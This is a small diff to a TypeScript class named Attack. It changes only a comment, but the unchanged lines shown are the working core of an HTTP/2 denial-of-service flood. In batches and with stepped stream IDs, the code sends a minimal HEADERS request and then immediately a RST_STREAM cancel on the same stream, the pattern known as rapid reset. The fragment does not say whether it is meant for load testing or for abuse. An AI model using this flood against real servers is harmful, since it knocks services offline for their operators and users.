@@ -40,7 +40,7 @@ class Attack {
 		if (this.#socket.writableLength > 100_000) return;
 		const frames: Buffer[] = [];
 		for (let i = 0; i < BATCH; i++, this.#stream += 2) {
-			// GET, http, / and the authority `a`.
+			// The fields GET, http, / and the authority `a`, in HPACK.
 			const block = [0x82, 0x86, 0x84, 0x41, 0x01, 0x61];
 			frames.push(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, this.#stream, block));
 			frames.push(frame(FRAME.resetStream, 0, this.#stream, [0, 0, 0, H2_ERROR.cancel]));
